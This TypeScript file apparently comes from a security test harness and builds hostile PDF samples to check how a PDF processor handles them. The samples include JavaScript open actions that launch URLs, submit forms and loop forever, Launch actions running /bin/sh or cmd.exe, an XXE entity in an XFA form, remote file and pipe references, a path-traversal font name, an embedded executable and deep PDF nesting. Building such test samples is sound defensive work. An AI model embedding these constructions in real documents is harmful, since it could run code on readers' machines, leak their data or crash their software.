import { deflateSync } from 'node:zlib';
import type { Bait } from '../bait.ts';
import { EITHER, type HostileKind, type Ingredients } from '../contracts.ts';
import { onePage, type PdfObject } from '../sources/pdf-source.ts';

type Make = (bait: Bait, ingredients: Ingredients) => Buffer;
const kind = (name: string, make: Make): HostileKind => ({
  name: `PDF: ${name}`,
  allowed: EITHER,
  make: (ingredients) => ({
    fileName: 'scan.pdf',
    bytes: make(ingredients.bait, ingredients),
  }),
});

/** Done when the document is opened, when its page is, and when that is shown. */
const onOpen = (action: string, more: readonly PdfObject[] = []): Buffer =>
  onePage({
    catalogue: `/OpenAction ${action} /AA << /WC ${action} /DP ${action} >>`,
    page: `/AA << /O ${action} /C ${action} >> /Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 130 97] /A ${action} /AA << /PO ${action} /PV ${action} >> >>]`,
    more,
  });

const script = (bait: Bait): string =>
  `app.launchURL('${bait.url}'); this.submitForm('${bait.url}'); this.getURL('${bait.url}'); ` +
  `this.importDataObject('a', '${bait.file}'); this.saveAs('${bait.unwritten}'); ` +
  `var s = 'x'; while (true) s += s;`;

const stream = (content: string | Buffer, dictionary = ''): PdfObject => ({ content, dictionary });

const imageFrom = (file: string): PdfObject =>
  stream(
    '',
    `/Type /XObject /Subtype /Image /Width 20 /Height 20 /BitsPerComponent 8 /ColorSpace /DeviceGray /F (${file}) /FFilter /DCTDecode`,
  );

const DRAW_IT: PdfObject = stream('130 0 0 97 0 0 cm /X Do');

/** What a PDF can ask its reader to run, open, call or send. */
export const PDF_ACTIONS: readonly HostileKind[] = [
  kind('JavaScript', (bait) => onOpen(`<< /S /JavaScript /JS (${script(bait)}) >>`)),
  kind('JavaScript in a stream', (bait) =>
    onOpen('<< /S /JavaScript /JS 5 0 R >>', [
      stream(deflateSync(Buffer.from(script(bait))), '/Filter /FlateDecode'),
    ]),
  ),
  kind('JavaScript by name', (bait) =>
    onePage({
      catalogue: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script(bait)}) >>] >> >>`,
    }),
  ),
  kind('JavaScript of a field', (bait) => {
    const action = `<< /S /JavaScript /JS (${script(bait)}) >>`;
    return onePage({
      catalogue: '/AcroForm << /Fields [5 0 R] /CO [5 0 R] /NeedAppearances true >>',
      page: '/Annots [5 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (1) /Rect [10 10 90 30] /AA << /F ${action} /K ${action} /C ${action} /V ${action} >> >>`,
      ],
    });
  }),
  kind('launches a program', (bait) =>
    onOpen(
      `<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c echo > ${bait.unwritten}) >> /Unix << /F (touch ${bait.unwritten}) >> >>`,
    ),
  ),
  kind('opens an address', (bait) => onOpen(`<< /S /URI /URI (${bait.url}) >>`)),
  kind('goes to another file', ({ file, pipe, url }, { random }) =>
    onOpen(`<< /S /GoToR /F (${random.pick([file, pipe, url])}) /D [0 /Fit] >>`),
  ),
  kind('goes into a file within another', ({ file }) =>
    onOpen(`<< /S /GoToE /F (${file}) /T << /R /C /N (x) >> /D [0 /Fit] >>`),
  ),
  kind('sends a form', (bait) =>
    onOpen(`<< /S /SubmitForm /F << /FS /URL /F (${bait.url}) >> /Flags 4 >>`),
  ),
  kind('imports data', ({ file }) => onOpen(`<< /S /ImportData /F (${file}) >>`)),
  kind('plays a film', ({ file, url }, { random }) =>
    onOpen(
      `<< /S /Movie /Annotation << /Movie << /F (${random.pick([file, url])}) >> >> /Operation /Play >>`,
    ),
  ),
  kind('plays a sound', ({ file }) =>
    onOpen('<< /S /Sound /Sound 5 0 R >>', [stream('', `/R 8000 /F (${file})`)]),
  ),
  kind('chain of actions that bites its tail', (bait) =>
    onOpen('5 0 R', [
      `<< /S /URI /URI (${bait.url}) /Next 6 0 R >>`,
      `<< /S /URI /URI (${bait.url}) /Next [5 0 R 6 0 R] >>`,
    ]),
  ),
  kind('picture in another file', ({ file, pipe, url }, { random }) =>
    onePage({
      content: DRAW_IT,
      resources: '/XObject << /X 5 0 R >>',
      more: [imageFrom(random.pick([file, pipe, url]))],
    }),
  ),
  kind('content in another file', ({ pipe }) =>
    onePage({ content: stream('', `/F (${pipe}) /FFilter /FlateDecode`) }),
  ),
  kind('page of another file', ({ file }) =>
    onePage({
      content: DRAW_IT,
      resources: '/XObject << /X 5 0 R >>',
      more: [
        stream('', `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${file}) /Page 0 >>`),
      ],
    }),
  ),
  kind('picture to be replaced before printing', ({ file }) =>
    onePage({
      content: DRAW_IT,
      resources: '/XObject << /X 5 0 R >>',
      more: [
        stream(
          'x',
          `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /OPI << /1.3 << /F (${file}) >> /2.0 << /F (${file}) >> >>`,
        ),
      ],
    }),
  ),
  kind('font in another file', ({ pipe }) =>
    onePage({
      content: stream('BT /F 20 Tf 9 9 Td (abc) Tj ET'),
      resources: '/Font << /F 5 0 R >>',
      more: [
        '<< /Type /Font /Subtype /TrueType /BaseFont /Nobody /FirstChar 0 /LastChar 0 /Widths [9] /FontDescriptor 6 0 R >>',
        '<< /Type /FontDescriptor /FontName /Nobody /Flags 4 /FontFile2 7 0 R >>',
        stream('', `/F (${pipe})`),
      ],
    }),
  ),
  kind('font that is named as a file', ({ pipe }) =>
    onePage({
      content: stream('BT /F 20 Tf 9 9 Td (abc) Tj ET'),
      resources: `/Font << /F << /Type /Font /Subtype /TrueType /BaseFont /..#2f..#2f..${pipe.replaceAll('/', '#2f')} >> >>`,
    }),
  ),
  kind('XFA form', (bait) =>
    onePage({
      catalogue: '/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true',
      more: [
        stream(
          `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${bait.url}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>xfa.host.gotoURL("${bait.url}")</script></event>&e;</subform></template></xdp:xdp>`,
        ),
      ],
    }),
  ),
  kind('rich media', ({ url }) =>
    onePage({
      page: '/Annots [5 0 R]',
      more: [
        `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] /RichMediaContent << /Assets << /Names [(a.swf) << /F (${url}) /EF << /F 6 0 R >> >>] >> >> /RichMediaSettings << /Activation << /Condition /PO >> >> >>`,
        stream('FWS\x0a'),
      ],
    }),
  ),
  kind('attachment that is a program', ({ unwritten }) =>
    onePage({
      catalogue: `/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (${unwritten}) /EF << /F 5 0 R >> >>] >> >>`,
      page: `/Annots [<< /Subtype /FileAttachment /Rect [9 9 20 20] /FS << /F (${unwritten}) /EF << /F 5 0 R >> >> >>]`,
      more: [stream('MZ\x90\0', '/Type /EmbeddedFile /Subtype /application#2foctet-stream')],
    }),
  ),
  kind('PDFs within PDFs', (_, { random }) => {
    let pdf = onePage({});
    for (let depth = random.whole(1, 30); depth > 0; depth--)
      pdf = onePage({
        catalogue:
          '/Names << /EmbeddedFiles << /Names [(a.pdf) << /F (a.pdf) /EF << /F 5 0 R >> >>] >> >> /OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >> /Collection << /View /D /D (a.pdf) >>',
        more: [stream(pdf, '/Type /EmbeddedFile')],
      });
    return pdf;
  }),
  kind('signature of nobody', (_, { random }) =>
    onePage({
      catalogue: '/AcroForm << /SigFlags 3 /Fields [5 0 R] >> /Perms << /DocMDP 6 0 R >>',
      more: [
        '<< /FT /Sig /T (s) /V 6 0 R /Subtype /Widget /Rect [0 0 0 0] >>',
        `<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 ${random.whole(0, 2 ** 31)} 4294967295 -1] /Contents <${'30'.repeat(200)}> >>`,
      ],
    }),
  ),
  kind('encryption that nobody knows', (_, { random }) =>
    onePage({
      options: {
        trailer: `/ID [<00> <00>] /Encrypt << /Filter /${random.pick(['Standard', 'Nobody'])} /V ${random.pick([0, 1, 2, 4, 5, 99])} /R ${random.pick([0, 2, 3, 4, 6, 99])} /Length ${random.pick([0, 40, 128, 999_999])} /O <${'00'.repeat(random.whole(0, 64))}> /U <${'00'.repeat(random.whole(0, 64))}> /P -4 >>`,
      },
    }),
  ),
];
